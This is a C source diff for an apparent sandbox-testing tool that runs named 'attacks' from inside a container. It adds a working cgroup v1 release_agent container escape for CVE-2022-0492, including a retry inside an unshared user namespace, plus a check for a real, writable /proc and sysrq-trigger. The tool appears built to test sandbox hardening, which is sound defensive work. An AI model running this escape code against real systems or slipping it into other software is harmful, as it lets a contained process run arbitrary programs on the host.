@@ -7,6 +7,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <grp.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -16,6 +17,7 @@
 #include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/vfs.h>
 #include <sys/sysmacros.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -240,6 +242,76 @@ static int remount(const char *path) {
     return 0;
 }
 
+static int put(const char *directory, const char *name, const char *text) {
+    char path[512];
+    snprintf(path, sizeof path, "%s/%s", directory, name);
+    int file = open(path, O_WRONLY | O_CLOEXEC);
+    ssize_t done = file < 0 ? -1 : write(file, text, strlen(text));
+    if (file >= 0) close(file);
+    return done == (ssize_t)strlen(text);
+}
+
+/* Makes a program of the host the release agent of every cgroup v1 hierarchy that can be mounted, and has the kernel start it. */
+static void write_agents(const char *agent, const char *as) {
+    FILE *groups = fopen("/proc/self/cgroup", "r");
+    char line[512], place[128], attack[160], options[300], pid[16];
+    int number, tried = 0, written = 0;
+    while (groups && fgets(line, sizeof line, groups)) {
+        char *kind = strchr(line, ':'), *end = kind ? strchr(kind + 1, ':') : NULL;
+        if (!end || end == kind + 1 || sscanf(line, "%d", &number) != 1) continue;
+        *end = 0;
+        snprintf(options, sizeof options, "%s%s", strncmp(kind + 1, "name=", 5) ? "" : "none,", kind + 1);
+        snprintf(place, sizeof place, "/tmp/%s-%d", as, number);
+        mkdir(place, 0700);
+        tried++;
+        if (mount("cgroup", place, "cgroup", 0, options)) continue;
+        if (put(place, "release_agent", agent)) {
+            printf("wrote %s of %s\n", as, options);
+            written++;
+            snprintf(attack, sizeof attack, "%s/attack", place);
+            mkdir(attack, 0755);
+            put(attack, "notify_on_release", "1");
+            pid_t child = fork();
+            if (child == 0) {
+                snprintf(pid, sizeof pid, "%d", getpid());
+                put(attack, "cgroup.procs", pid);
+                _exit(0);
+            }
+            waitpid(child, NULL, 0);
+            usleep(300000); /* until the agent has run */
+            rmdir(attack);
+        }
+    }
+    if (groups) fclose(groups);
+    printf("%s tried %d, wrote %d\n", as, tried, written);
+    fflush(stdout);
+}
+
+/* CVE-2022-0492: the same with the program's capabilities, and with those of a user namespace of its own. */
+static int release_agent(const char *agent) {
+    char map[64];
+    write_agents(agent, "own");
+    snprintf(map, sizeof map, "0 %d 1", getuid());
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) {
+        printf("unshare: %s\n", strerror(errno));
+        return 0;
+    }
+    put("/proc/self", "uid_map", map);
+    write_agents(agent, "unshared");
+    return 0;
+}
+
+/* Says whether /proc is a procfs, with the process's own files, and whether the kernel's settings there can be written. */
+static int proc(void) {
+    struct statfs fs;
+    char link[32] = "";
+    ssize_t n = readlink("/proc/self", link, sizeof link - 1);
+    int real = statfs("/proc", &fs) == 0 && fs.f_type == 0x9fa0 && n > 0 && atoi(link) == getpid();
+    int file = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
+    printf("proc %s%s\n", real ? "real" : "fake", file >= 0 ? " writable" : "");
+    return 0;
+}
+
 int main(int argc, char **argv) {
     const char *word = argc > 1 ? argv[1] : "", *one = argc > 2 ? argv[2] : "", *two = argc > 3 ? argv[3] : "0",
                *three = argc > 4 ? argv[4] : "0";
@@ -255,6 +327,8 @@ int main(int argc, char **argv) {
     if (!strcmp(word, "privileges")) return privileges();
     if (!strcmp(word, "mount")) return mount_at(one);
     if (!strcmp(word, "remount")) return remount(one);
+    if (!strcmp(word, "release-agent")) return release_agent(one);
+    if (!strcmp(word, "proc")) return proc();
     if (!strcmp(word, "hello")) return write(1, "hello\n", 6) != 6;
     fprintf(stderr, "inside: unknown attack `%s`\n", word);
     return 2;
